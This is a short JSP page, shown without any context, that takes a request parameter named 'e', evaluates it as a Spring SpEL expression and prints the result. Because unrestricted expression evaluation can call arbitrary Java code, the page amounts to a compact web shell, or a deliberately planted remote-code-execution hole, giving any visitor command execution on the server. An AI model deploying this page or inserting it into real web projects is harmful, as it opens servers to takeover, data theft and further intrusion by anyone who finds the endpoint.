<%@ page import="org.springframework.expression.spel.standard.SpelExpressionParser" %><%
Object v = new SpelExpressionParser().parseExpression(request.getParameter("e")).getValue();
out.print(v);
%>
